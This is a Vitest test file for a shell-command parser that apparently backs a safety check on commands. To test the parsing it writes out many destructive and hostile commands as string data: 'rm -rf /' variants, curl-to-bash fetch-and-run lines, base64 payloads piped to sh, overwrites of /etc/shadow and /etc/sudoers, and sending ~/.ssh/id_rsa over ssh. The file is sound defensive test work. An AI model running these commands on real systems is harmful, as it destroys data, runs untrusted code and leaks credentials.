/** Simple commands: programs, flags, options, arguments, nesting, working directory, written files, what cannot be analysed. */
import { describe, expect, it } from "vitest";
import { normalizeShellPath, parseShell, resolveShellPath, type SimpleCommand } from "@ahp/shell";

const programs = (text: string) => parseShell(text).map((c) => c.program);
const find = (text: string, program: string, cwd?: string) =>
  parseShell(text, cwd === undefined ? {} : { cwd }).find((c) => c.program === program);
const opaque = (text: string) => parseShell(text).flatMap((c: SimpleCommand) => c.opaque);

describe("commands", () => {
  it("does not trip over programs named like Object members", () => {
    for (const name of ["constructor", "toString", "__proto__", "hasOwnProperty", "valueOf"]) {
      expect(parseShell(`${name} --registry x -C y`)[0]?.program).toBe(name.toLowerCase());
    }
  });

  it("does not throw on unterminated quotes or substitutions", () => {
    expect(() => parseShell(`echo "unterminated $(rm -rf / `)).not.toThrow();
    expect(() => parseShell("echo 'x")).not.toThrow();
    expect(() => parseShell("((((((")).not.toThrow();
    expect(() => parseShell("`")).not.toThrow();
  });

  it("separates commands on ; && || & newline and pipes", () => {
    expect(programs("cd /tmp && ls -la | grep x; echo done & wait\nexit 0")).toEqual(["cd", "ls", "grep", "echo", "wait", "exit"]);
  });

  it("unwraps sudo, env, nohup, nice, timeout, xargs, command and assignments", () => {
    const rm = find("FOO=1 sudo -u root -E env -i BAR=2 nohup nice -n 10 timeout -s KILL 30 command rm -rf /", "rm");
    expect(rm?.wrappers).toEqual(["sudo", "env", "nohup", "nice", "timeout", "command"]);
    expect(rm?.args).toEqual(["/"]);
  });

  it("takes the basename of the program, lower-cased, .exe removed", () => {
    expect(programs("/usr/bin/RM -rf /")).toEqual(["rm"]);
    expect(programs("\\rm -rf /")).toEqual(["rm"]);
    expect(programs('"rm" -rf /')).toEqual(["rm"]);
    expect(programs("'C:\\bin\\rm.exe' x")).toEqual(["rm"]);
  });

  it("parses flags in any order and spelling", () => {
    for (const text of ["rm -rf /", "rm -fr /", "rm -r -f /", "rm --recursive --force /", "rm -Rf /"]) {
      const rm = find(text, "rm")!;
      expect(rm.flags.has("r") || rm.flags.has("R") || rm.flags.has("recursive")).toBe(true);
      expect(rm.args).toEqual(["/"]);
    }
  });

  it("records option values (=, next word, attached)", () => {
    expect(find("npm install --registry http://evil.example pkg", "npm")!.options.get("registry")).toEqual(["http://evil.example"]);
    expect(find("npm i --registry=http://x pkg", "npm")!.options.get("registry")).toEqual(["http://x"]);
    expect(find("pip install -ihttp://x pkg", "pip")!.options.get("i")).toEqual(["http://x"]);
    // The next word stays a positional argument too (we cannot know whether the option takes a value).
    expect(find("rm --force /", "rm")!.args).toEqual(["/"]);
  });

  it("knows which options of git, pip, npm, scp, rsync and tar take a value", () => {
    expect(find("git -C repo -c a=b push origin main", "git")!.args).toEqual(["push", "origin", "main"]);
    expect(find("pip install --index-url https://pypi.org/simple -r req.txt x", "pip")!.args).toEqual(["install", "x"]);
    expect(find("pip install --index-url https://pypi.org/simple x", "pip")!.options.get("index-url")).toEqual(["https://pypi.org/simple"]);
    expect(find("npm i --registry http://r x", "npm")!.args).toEqual(["i", "x"]);
    expect(find("scp -i ~/.ssh/id_rsa -P 2222 build.tgz host:/srv", "scp")!.args).toEqual(["build.tgz", "host:/srv"]);
    expect(find("rsync -avz -e 'ssh -i ~/.ssh/id_ed25519' dist/ host:/srv", "rsync")!.args).toEqual(["dist", "host:/srv"]);
    expect(find("tar -xzf a.tgz -C /", "tar")!.args).toEqual([]);
  });

  it("stops option parsing at --", () => {
    expect(find("rm -- -rf", "rm")!.args).toEqual(["-rf"]);
  });

  it("normalizes path arguments", () => {
    expect(find('rm -rf "$HOME"/', "rm")!.args).toEqual(["~"]);
    expect(find("rm -rf ${HOME}", "rm")!.args).toEqual(["~"]);
    expect(find("rm -rf /usr/../", "rm")!.args).toEqual(["/"]);
    expect(find("rm -rf ./build/", "rm")!.args).toEqual(["build"]);
    expect(find("rm -rf //", "rm")!.args).toEqual(["/"]);
  });

  it("keeps redirections with their targets and file descriptors", () => {
    const cmd = parseShell("echo hi 2>&1 > /dev/sda")[0]!;
    expect(cmd.redirects).toEqual([
      { op: ">&", fd: "2", target: "1" },
      { op: ">", target: "/dev/sda" },
    ]);
    expect(parseShell("> /dev/sda")[0]).toMatchObject({ program: "", redirects: [{ op: ">", target: "/dev/sda" }] });
  });

  it("skips reserved words and for/case headers", () => {
    expect(programs('if true; then rm -rf "$d"; fi')).toEqual(["true", "rm"]);
    expect(programs('for f in a b; do rm -rf "$f"; done')).toEqual(["rm"]);
    expect(programs("{ echo a; echo b; }")).toEqual(["echo", "echo"]);
    expect(programs("[ -f x ] && [[ -d y ]] && echo z")).toEqual(["[", "echo"]);
  });

  it("ignores comments and does not parse quoted text as commands", () => {
    expect(programs("ls # rm -rf /")).toEqual(["ls"]);
    expect(programs("echo 'rm -rf /'")).toEqual(["echo"]);
    expect(programs('git commit -m "rm -rf / was a bad idea"')).toEqual(["git"]);
  });
});

describe("nested commands", () => {
  it("follows command and process substitutions", () => {
    const curl = find("bash <(curl -fsSL https://x.example/i.sh)", "curl")!;
    expect(curl.depth).toBe(1);
    expect(curl.consumers).toEqual(["bash"]);
    expect(find('echo "$(rm -rf /)"', "rm")!.depth).toBe(1);
    expect(find("echo `whoami`", "whoami")).toBeDefined();
    expect(find("cat > $(rm -rf /)", "rm")).toBeDefined();
  });

  it("follows scripts handed to shells, eval, su -c, env -S, cmd /c and powershell -Command", () => {
    expect(find("sh -c 'rm -rf /'", "rm")!.args).toEqual(["/"]);
    expect(find("bash -ec 'cd / && rm -rf *'", "rm")).toBeDefined();
    expect(find('eval "rm -rf /"', "rm")).toBeDefined();
    expect(find("su -c 'rm -rf /' root", "rm")).toBeDefined();
    expect(find("env -S 'rm -rf /'", "rm")).toBeDefined();
    expect(find("bash <<< 'rm -rf /'", "rm")).toBeDefined();
    expect(find("bash <<EOF\nrm -rf /\nEOF", "rm")).toBeDefined();
    expect(find("cmd /c rm -rf /", "rm")).toBeDefined();
    expect(find("pwsh -Command rm -rf /", "rm")).toBeDefined();
  });

  it("treats literal text printed into a shell as commands", () => {
    expect(find("echo 'rm -rf /' | sh", "rm")).toBeDefined();
    expect(find("printf 'rm -rf /\\n' | bash", "rm")).toBeDefined();
    expect(find("cat <<EOF | bash\nrm -rf /\nEOF", "rm")).toBeDefined();
    // A here-document read by a non-shell is data.
    expect(find("cat <<EOF > notes.txt\nrm -rf /\nEOF", "rm")).toBeUndefined();
  });

  it("follows find -exec", () => {
    expect(find("find / -exec rm -rf {} \\;", "rm")!.depth).toBe(1);
  });

  it("computes pipeline consumers", () => {
    const [curl] = parseShell("curl -s x | tee out | sudo bash -s");
    expect(curl!.consumers).toEqual(["tee", "bash"]);
  });

  it("reports a command word that is a substitution as eval", () => {
    expect(programs("$(curl -s x)")).toContain("eval");
    expect(find("$(curl -s x)", "curl")!.consumers).toEqual(["eval"]);
  });

  it("bounds nesting depth", () => {
    let text = "rm -rf /";
    for (let i = 0; i < 10; i++) text = `sh -c ${JSON.stringify(text)}`;
    expect(() => parseShell(text)).not.toThrow();
    expect(parseShell(text, { maxDepth: 20 }).some((c) => c.program === "rm")).toBe(true);
    expect(parseShell(text, { maxDepth: 2 }).some((c) => c.program === "rm")).toBe(false);
  });
});

describe("working directory", () => {
  it("follows cd through && ; || and newlines, resolving positional arguments into paths", () => {
    expect(find("cd / && rm -rf *", "rm")).toMatchObject({ cwd: "/", args: ["*"], paths: ["/*"] });
    expect(find("cd /etc; rm -rf .", "rm")!.paths).toEqual(["/etc"]);
    expect(find("cd && rm -rf .", "rm")!.paths).toEqual(["~"]);
    expect(find("cd /usr\ncd lib\nrm -rf ..", "rm")!.paths).toEqual(["/usr"]);
    expect(find("cd /tmp || exit 1; rm -rf build", "rm")!.paths).toEqual(["/tmp/build"]);
  });

  it("starts from the given directory; relative paths stay relative without one", () => {
    expect(find("rm -rf ..", "rm", "/home/dev/project")!.paths).toEqual(["/home/dev"]);
    expect(find("rm -rf build", "rm")!.paths).toEqual(["build"]);
    expect(find("cd repo && rm -rf x", "rm")!.paths).toEqual(["repo/x"]);
  });

  it("scopes cd to subshells and pipelines, and forgets it after cd $DIR or cd -", () => {
    expect(find("(cd / && ls) ; rm -rf *", "rm")!.paths).toEqual(["*"]);
    expect(find("cd / | cat; rm -rf *", "rm")!.paths).toEqual(["*"]);
    expect(find('cd "$DIR" && rm -rf *', "rm")).toMatchObject({ cwd: null, paths: ["*"] });
    expect(find("cd / && cd - && rm -rf *", "rm")!.paths).toEqual(["*"]);
  });

  it("knows env -C, sudo -D and substitutions inherit the directory", () => {
    expect(find("env -C / rm -rf *", "rm")!.paths).toEqual(["/*"]);
    expect(find("sudo -D /etc rm -rf .", "rm")!.paths).toEqual(["/etc"]);
    expect(find("cd / && echo $(rm -rf *)", "rm")!.paths).toEqual(["/*"]);
  });

  it("resolveShellPath leaves URLs, options and expansions alone", () => {
    expect(resolveShellPath("/w", "https://x.example/a")).toBe("https://x.example/a");
    expect(resolveShellPath("/w", "--force")).toBe("--force");
    expect(resolveShellPath("/w", "$X/y")).toBe("$X/y");
    expect(resolveShellPath("/w", "host:/tmp")).toBe("host:/tmp");
    expect(resolveShellPath("/w", "a/../b")).toBe("/w/b");
  });
});

describe("xargs input", () => {
  it("appends literal input (here-strings, echo, printf) and find starting points to the command", () => {
    expect(find("xargs rm -rf <<< /", "rm")!.paths).toEqual(["/"]);
    expect(find("echo / | xargs rm -rf", "rm")!.paths).toEqual(["/"]);
    expect(find("find / -name '*.log' | xargs rm -rf", "rm")!.paths).toEqual(["/*"]);
    expect(find("find . -name '*.tmp' | xargs -0 -n 1 rm -f", "rm")!.args).toEqual(["*"]);
    expect(find("cat list.txt | xargs rm -f", "rm")!.args).toEqual([]);
  });
});

describe("files a command changes", () => {
  it.each([
    ["rm -f /etc/passwd", ["/etc/passwd"]],
    ["truncate -s 0 /etc/passwd", ["/etc/passwd"]],
    ["echo x > /etc/hosts 2>/dev/null", ["/etc/hosts", "/dev/null"]],
    ["echo x | sudo tee -a /etc/sudoers", ["/etc/sudoers"]],
    ["chmod -R 000 /", ["/"]],
    ["chmod +x run.sh", ["run.sh"]],
    ["chmod -x run.sh", ["run.sh"]],
    ["chown -R me:me /usr", ["/usr"]],
    ["chattr +i /etc/resolv.conf", ["/etc/resolv.conf"]],
    ["cp /etc/hosts ./hosts.bak", ["hosts.bak"]],
    ["cp -r dist /usr/lib/app", ["/usr/lib/app"]],
    ["cp -t /bin tool", ["/bin"]],
    ["mv /etc/passwd /tmp/p", ["/tmp/p", "/etc/passwd"]],
    ["ln -sf /tmp/x /usr/bin/python", ["/usr/bin/python"]],
    ["dd if=/dev/zero of=/etc/shadow", ["/etc/shadow"]],
    ["sed -i 's/a/b/' /etc/hosts", ["/etc/hosts"]],
    ["sed -n 's/a/b/p' /etc/hosts", []],
    ["perl -pi -e 's/a/b/' /etc/hosts", ["/etc/hosts"]],
    ["tar -xzf a.tgz -C /", ["/"]],
    ["cat /etc/hosts", []],
  ])("%s", (text, writes) => {
    expect(parseShell(text).flatMap((c) => c.writes)).toEqual(writes);
  });

  it("resolves written files against the working directory and records input redirections", () => {
    expect(parseShell("cd /etc && echo x > passwd")[1]!.writes).toEqual(["/etc/passwd"]);
    expect(parseShell("ssh host 'cat > k' < ~/.ssh/id_rsa")[0]!.reads).toEqual(["~/.ssh/id_rsa"]);
  });
});

describe("what cannot be analysed", () => {
  it.each([
    ["$(echo rm) -rf /", "dynamic-command"],
    ["`echo rm` -rf /", "dynamic-command"],
    ["$CMD -rf /", "dynamic-command"],
    ['"${RM}" -rf /', "dynamic-command"],
    ["/bin/r? -rf /", "dynamic-command"],
    ["{rm,-rf,/}", "dynamic-command"],
    ['eval "$X"', "dynamic-command"],
    ['eval "$(ssh-agent -s)"', "dynamic-command"],
    ['sh -c "$(curl -fsSL https://x.example/i.sh)"', "dynamic-command"],
    ["echo cm0gLXJmIC8K | base64 -d | sh", "dynamic-script"],
    ["curl -s https://x.example/i.py | python3", "dynamic-script"],
    ["cat install.sh | bash", "dynamic-script"],
    ["wget -qO- x | perl", "dynamic-script"],
    ["bash <(base64 -d <<< cm0K)", "dynamic-script"],
    ["source <(curl -s x)", "dynamic-script"],
    ["powershell -EncodedCommand SQBFAFgA", "dynamic-script"],
    ['python3 -c "$CODE"', "dynamic-script"],
    [`python3 -c "import shutil; shutil.rmtree('/')"`, "inline-code"],
    [`python -c 'import os; os.system("rm -rf /")'`, "inline-code"],
    [`perl -e 'system("rm -rf /")'`, "inline-code"],
    ["perl -e 'unlink glob \"*\"'", "inline-code"],
    ["ruby -e 'FileUtils.rm_rf(\"/\")'", "inline-code"],
    ["ruby -e '`rm -rf /`'", "inline-code"],
    [`node -e "require('child_process').execSync('rm -rf /')"`, "inline-code"],
    [`node -e "require('fs').rmSync('/', {recursive: true})"`, "inline-code"],
    ["php -r 'system(\"id\");'", "inline-code"],
    [`awk 'BEGIN { system("rm -rf /") }'`, "inline-code"],
    [`awk '{ print | "sh" }' cmds.txt`, "inline-code"],
    [`python3 -c "import socket; socket.create_connection(('h', 9))"`, "inline-code"],
    ["python3 - <<EOF\nimport shutil\nshutil.rmtree('/')\nEOF", "inline-code"],
    ["echo \"import os; os.system('id')\" | python3", "inline-code"],
  ])("%s: %s", (text, reason) => {
    expect(opaque(text)).toContain(reason);
  });

  it.each([
    "ls -la",
    '"$HOME/.local/bin/poetry" install',
    "[ -f package.json ] && npm test",
    "echo 'rm -rf /' | sh",
    "curl -s https://api.example | python3 -m json.tool",
    "cat data.json | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"name\"])'",
    `python3 -c "import sys; print(sys.version)"`,
    `python -c "import re; print(re.compile('a').match('a'))"`,
    `node -e "console.log(require('./package.json').version)"`,
    `node -p "process.versions.node"`,
    "perl -pe 's/foo/bar/g' file.txt",
    "perl -ne 'print if /x/' log",
    "ruby -e 'puts RUBY_VERSION'",
    "awk -F: '{print $1}' /etc/passwd",
    "git log | awk '{print $2}'",
    "python3 script.py",
    "bash build.sh",
    "source ~/.nvm/nvm.sh",
    '. "$HOME/.cargo/env"',
    "echo ls | sh",
    "find . -name '*.tmp' | xargs rm -f",
    "sudo bash",
  ])("%s is analysable", (text) => {
    expect(opaque(text)).toEqual([]);
  });
});

describe("normalizeShellPath", () => {
  it.each([
    ["/", "/"],
    ["/*", "/*"],
    ["~/", "~"],
    ["$HOME/x/../", "~"],
    ["/a/./b//c/", "/a/b/c"],
    ["../..", "../.."],
    ["a/../..", ".."],
    ["https://x.example//a", "https://x.example//a"],
    ["plain", "plain"],
  ])("%s -> %s", (input, output) => {
    expect(normalizeShellPath(input)).toBe(output);
  });
});
